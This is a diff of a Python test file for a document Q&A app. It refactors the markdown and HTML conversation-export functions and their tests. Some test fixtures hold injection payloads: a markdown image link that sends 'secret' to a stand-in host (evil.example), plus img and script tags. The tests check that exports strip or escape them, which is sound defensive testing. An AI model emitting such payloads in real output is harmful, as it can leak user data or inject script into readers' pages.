@@ -8,8 +8,8 @@ from html.parser import HTMLParser
 import pytest
 
 from core.errors import NotFoundError
-from core.exports import (GENERAL, NO_CITATIONS, NO_SOURCE, NOT_FOUND, UNSUPPORTED, export_file_name, export_html,
-                          export_markdown)
+from core.exports import (GENERAL, NO_CITATIONS, NO_SOURCE, NOT_FOUND, UNSUPPORTED, conversation_html,
+                          conversation_markdown, export_file_name)
 from core.history import History
 from core.types import AnswerResult, MatchedSentence, Passage
 
@@ -60,7 +60,7 @@ def conversation(history):
 
 
 def test_markdown_keeps_every_warning_citation_and_rating(history, conversation):
-    md = export_markdown(history, conversation)
+    md = conversation_markdown(history.conversation(conversation), history.messages(conversation))
     assert md.startswith("# Can I return a bike after 45 days?\n")
     # the unsupported sentence is flagged, not shown as clean
     assert f"\n> ⚠️ {UNSUPPORTED}“The manager decides on the colour.”\n\n" in md  # no raw [2] in a warning
@@ -86,7 +86,7 @@ def test_markdown_neutralises_model_and_document_text(history):
     answered(history, conv, "Discount?", AnswerResult(
         answer="It is 10% [1]. ![x](https://evil.example/leak.png?d=secret) <b>bold</b>", found=True,
         citations=[Passage(1, EVIL_FILE, 2, None, None, EVIL_TEXT, "c9")]))
-    md = export_markdown(history, conv)
+    md = conversation_markdown(history.conversation(conv), history.messages(conv))
     assert "![" not in md and "](https://" not in md and "<b>" not in md and "<img" not in md
     assert "<script" not in md
 
@@ -105,7 +105,7 @@ class _Tags(HTMLParser):
 
 
 def test_printable_html_keeps_the_warnings_and_is_self_contained(history, conversation):
-    page = export_html(history, conversation)
+    page = conversation_html(history.conversation(conversation), history.messages(conversation))
     parsed = _Tags()
     parsed.feed(page)
     text = " ".join("".join(parsed.text).split())
@@ -127,7 +127,7 @@ def test_printable_html_escapes_model_and_document_text(history):
         answer="It is **10%** [1]. <img src=https://evil.example/x.png> <script>alert(1)</script>", found=True,
         citations=[Passage(1, EVIL_FILE, 2, None, None, EVIL_TEXT, "c9")],
         unsupported=["<script>bad()</script> [1]"], matched=[MatchedSentence("<b>matched</b>", 1)]))
-    page = export_html(history, conv)
+    page = conversation_html(history.conversation(conv), history.messages(conv))
     parsed = _Tags()
     parsed.feed(page)
     assert not {"script", "img", "a", "i", "b"} & set(parsed.tags)
@@ -138,11 +138,9 @@ def test_printable_html_escapes_model_and_document_text(history):
     assert "“<b>matched</b>”" in text and "<script>bad()</script>" in text
 
 
-def test_exports_of_a_missing_conversation_say_so(history):
+def test_a_missing_conversation_says_so(history):
     with pytest.raises(NotFoundError):
-        export_markdown(history, 424242)
-    with pytest.raises(NotFoundError):
-        export_html(history, 424242)
+        history.conversation(424242)
 
 
 def test_export_file_names_are_plain():
@@ -162,7 +160,7 @@ def test_markdown_export_of_stored_messages(history):
     history.set_feedback(answer, 1, "right")
     history.add_message(conv, "user", "Sundays?")
     history.add_message(conv, "assistant", "The documents don't say.", [], {"found": False, "question": "Sundays?"})
-    md = export_markdown(history, conv)
+    md = conversation_markdown(history.conversation(conv), history.messages(conv))
     assert md.startswith("# Opening hours\n")
     assert "**Question:** When do we open?" in md and "**Question:** Sundays?" in md
     assert "At nine on weekdays [1] and ten on Saturdays [2]." in md
@@ -173,4 +171,4 @@ def test_markdown_export_of_stored_messages(history):
     assert "Rated helpful: “right”" in md
     assert "I couldn't find this in your documents." in md.split("**Question:** Sundays?")[1]
     with pytest.raises(NotFoundError):
-        export_markdown(history, 123456)
+        history.conversation(123456)
